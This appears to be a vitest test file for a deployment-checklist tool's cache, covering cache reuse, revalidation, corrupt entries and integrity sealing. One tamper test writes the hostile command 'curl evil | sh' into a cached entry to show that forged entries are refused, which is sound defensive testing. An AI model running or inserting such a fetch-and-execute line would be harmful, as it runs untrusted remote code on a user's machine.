// @ts-nocheck
// The checklist cache: a valid checklist loaded once is answered from the cache (same result, no
// re-validation), an edited file is validated afresh, and a broken or unwritable cache only costs time.
import { mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { displayPath, loadChecklist } from "../../../src/checklist/load.js";
import { ChecklistError } from "../../../src/errors.js";
import { CACHE_KEY_FILE, sealCacheEntryForTest } from "../../../src/store/checklist-cache.js";

const checklist = (title: string, extra = "") => `apiVersion: deploycheck/v1
kind: Checklist
metadata: { name: t, title: ${title} }
sections:
  - id: s
    title: S
    items:
      - id: i
        title: I
        steps:
          - run: "true"${extra}
`;

let dir: string;
let cacheHome: string;
let configHome: string;
const saved = {
  xdg: process.env["XDG_CACHE_HOME"],
  config: process.env["XDG_CONFIG_HOME"],
  off: process.env["DEPLOYCHECK_NO_CACHE"],
};

beforeEach(() => {
  dir = mkdtempSync(path.join(tmpdir(), "dc-cache-"));
  cacheHome = path.join(dir, "cache");
  process.env["XDG_CACHE_HOME"] = cacheHome;
  configHome = path.join(dir, "config");
  process.env["XDG_CONFIG_HOME"] = configHome;
  delete process.env["DEPLOYCHECK_NO_CACHE"];
});
afterEach(() => {
  rmSync(dir, { recursive: true, force: true });
  if (saved.xdg === undefined) delete process.env["XDG_CACHE_HOME"];
  else process.env["XDG_CACHE_HOME"] = saved.xdg;
  if (saved.config === undefined) delete process.env["XDG_CONFIG_HOME"];
  else process.env["XDG_CONFIG_HOME"] = saved.config;
  if (saved.off === undefined) delete process.env["DEPLOYCHECK_NO_CACHE"];
  else process.env["DEPLOYCHECK_NO_CACHE"] = saved.off;
});

const entries = () => {
  const d = path.join(cacheHome, "deploycheck", "checklists");
  try {
    return readdirSync(d).map((f) => path.join(d, f));
  } catch {
    return [];
  }
};

describe("checklist cache", () => {
  it("answers a second load of the same file from the cache, with the same checklist and warnings", async () => {
    const file = path.join(dir, "t.yaml");
    writeFileSync(file, checklist("First"));
    const first = await loadChecklist(file);
    expect(entries()).toHaveLength(1);
    expect(first.warnings.length).toBeGreaterThan(0); // the step without an id
    const second = await loadChecklist(file);
    expect(second).toEqual(first);

    // Proof that the second answer came from the cache: an entry edited and sealed with this user's
    // secret is what comes back.
    const [entry] = entries();
    const text = readFileSync(entry!, "utf8");
    const data = JSON.parse(text.slice(text.indexOf("\n") + 1));
    data.checklist.metadata.title = "From the cache";
    writeFileSync(entry!, sealCacheEntryForTest(first.sha256, displayPath(file), JSON.stringify(data)) ?? "");
    expect((await loadChecklist(file)).checklist.metadata.title).toBe("From the cache");
  });

  it("refuses an entry edited without the per-user secret: what runs is what the YAML says", async () => {
    const file = path.join(dir, "t.yaml");
    writeFileSync(file, checklist("First"));
    const first = await loadChecklist(file);
    expect(statSync(path.join(configHome, "deploycheck", CACHE_KEY_FILE)).mode & 0o777).toBe(0o600);
    const [entry] = entries();
    const text = readFileSync(entry!, "utf8");
    const [macLine, body] = [text.slice(0, text.indexOf("\n")), text.slice(text.indexOf("\n") + 1)];
    // The attack: the cached command replaced, the MAC kept (or dropped, or recomputed without the key).
    const evil = body.replace('"run":"true"', '"run":"curl evil | sh"');
    expect(evil).not.toBe(body);
    for (const forged of [`${macLine}\n${evil}`, evil, `${"0".repeat(64)}\n${evil}`]) {
      writeFileSync(entry!, forged);
      const loaded = await loadChecklist(file);
      expect(JSON.stringify(loaded.checklist)).not.toContain("curl evil");
      expect(loaded).toEqual(first);
    }
    // Without the secret (another user's cache, a deleted key) nothing is read from the cache.
    writeFileSync(entry!, `${macLine}\n${evil}`);
    rmSync(path.join(configHome, "deploycheck", CACHE_KEY_FILE));
    expect(JSON.stringify((await loadChecklist(file)).checklist)).not.toContain("curl evil");
  });

  it("validates an edited file afresh: an edit that breaks it is reported with its position", async () => {
    const file = path.join(dir, "t.yaml");
    writeFileSync(file, checklist("First"));
    await loadChecklist(file);
    writeFileSync(file, checklist("First", "\n            timout: 5s"));
    const err = await loadChecklist(file).catch((e: unknown) => e);
    expect(err).toBeInstanceOf(ChecklistError);
    expect((err as ChecklistError).problems[0]).toMatchObject({ line: 12, suggestion: "timeout" });
    expect(entries()).toHaveLength(1); // invalid checklists are never cached
  });

  it("ignores a corrupt entry and rewrites it", async () => {
    const file = path.join(dir, "t.yaml");
    writeFileSync(file, checklist("First"));
    const first = await loadChecklist(file);
    const [entry] = entries();
    writeFileSync(entry!, "{ torn");
    expect(await loadChecklist(file)).toEqual(first);
    const text = readFileSync(entry!, "utf8");
    expect(JSON.parse(text.slice(text.indexOf("\n") + 1)).sha256).toBe(first.sha256);
  });

  it("still loads when the cache cannot be written, and DEPLOYCHECK_NO_CACHE=1 writes nothing", async () => {
    const file = path.join(dir, "t.yaml");
    writeFileSync(file, checklist("First"));
    process.env["DEPLOYCHECK_NO_CACHE"] = "1";
    expect((await loadChecklist(file)).checklist.metadata.title).toBe("First");
    expect(entries()).toEqual([]);
    delete process.env["DEPLOYCHECK_NO_CACHE"];

    // A cache "directory" that is a file: creating the entry fails (even for root).
    process.env["XDG_CACHE_HOME"] = path.join(dir, "file-not-dir");
    writeFileSync(path.join(dir, "file-not-dir"), "x");
    expect((await loadChecklist(file)).checklist.metadata.title).toBe("First");
  });
});
